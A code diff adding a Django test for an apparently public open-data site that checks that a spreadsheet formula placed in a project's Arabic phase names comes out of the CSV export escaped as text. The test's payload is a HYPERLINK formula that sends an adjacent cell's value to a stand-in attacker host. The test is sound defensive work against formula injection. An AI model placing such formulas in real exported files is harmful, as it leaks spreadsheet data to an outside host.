@@ -256,3 +256,20 @@ def test_english_readers_get_the_feed_in_english(client, published):
     client.logout()
     feed = client.get(reverse("public:feed") + "?lang=en").content.decode()
     assert 'xml:lang="en"' in feed
+
+
+def test_a_formula_in_a_public_record_reaches_the_open_data_as_text(client, published):
+    import csv
+    import io
+
+    registry = published["registry"]
+    Disclosure.objects.filter(kind="project", object_id=registry.pk).update(shown=["status", "execution", "phase"])
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"تفاصيل")'
+    for phase in registry.phases.all():  # saved one by one: the project's figures follow
+        phase.name_ar = formula
+        phase.save()
+    client.logout()
+    text = client.get(reverse("public:data_file", args=["projects", "csv"])).content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + formula in cells
+    assert formula not in cells
